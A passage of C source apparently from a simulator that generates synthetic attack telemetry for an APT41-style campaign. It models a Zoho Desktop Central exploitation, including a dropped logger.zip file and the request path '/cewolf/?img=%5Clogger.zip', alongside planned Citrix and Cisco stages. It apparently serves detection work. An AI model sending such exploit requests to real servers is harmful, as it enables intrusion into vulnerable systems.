        n->ob = 3300;
        n->rb = 400;
    }
    dc_ctx d = { c, t, r, t->java, t->java_cmd };
    if (st == 200)
        sm_file(&d, ts + jitter(r, 0.02, 0.2), t->pid_java, d.java,
                sim_strf(c, "%s\\webapps\\DesktopCentral\\_chart\\logger.zip", t->dc_root),
                apt(CVE_ZOHO, ST_EXPLOITED));
    ts += jitter(r, 1.5, 5);
    uint16_t st2 = st == 200 ? 200 : t->dc_block;
    e = sim_web_ev(c, t, SS_DC_WEB, ts, apt(CVE_ZOHO, st2 == 200 ? ST_EXPLOITED : ST_TARGETED),
                   IP_Z, "GET", "/cewolf/?img=%5Clogger.zip", st2, st2 == 200 ? 0 : 1022, ua);
    e->infra[0] = Z_IP;
    if (st2 != 200 || t->role[CVE_ZOHO] != ROLE_COMPROMISED)
        return;
    int k = (*ncomp)++;
    zoho_compromise(&d, ts + jitter(r, 1, 4), k % 2, k < 2);
}

static void plan_zoho(sim_ctx *c, sim_rng *r)
{
    int64_t sun = sim_date(2020, 3, 8) + 20 * SIM_HOUR, mon = sim_date(2020, 3, 9);
    int64_t last = sim_date(2020, 3, 11) + 20 * SIM_HOUR;
    int ncomp = 0;
    for (uint32_t i = 0; i < c->nt; i++) {
        sim_tenant *t = &c->t[i];
        uint8_t role = t->role[CVE_ZOHO];
        if (role == ROLE_NONE)
            continue;
        int64_t ts = sim_chance(r, 0.4) || role == ROLE_COMPROMISED ? in_window(r, sun, mon)
                                                                    : in_window(r, mon, last);
        zoho_visit(c, t, r, ts, &ncomp);
        if (role == ROLE_FAILED && sim_chance(r, 0.3))
            zoho_visit(c, t, r, in_window(r, ts + SIM_HOUR, last + 3 * SIM_HOUR), &ncomp);
    }
}

tr_err sim_plan_apt41(sim_ctx *c, sim_rng *r)
{
    static const char alnum[] = "abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789";
    for (int i = 0; i < 10; i++)
        c->ftp_pw[i] = alnum[sim_below(r, (uint32_t)(sizeof(alnum) - 1))];
    c->ftp_pw[10] = '\0';
    plan_citrix(c, r);
    plan_cisco(c, r);
    plan_zoho(c, r);
    return c->oom ? TR_ENOMEM : TR_OK;
}
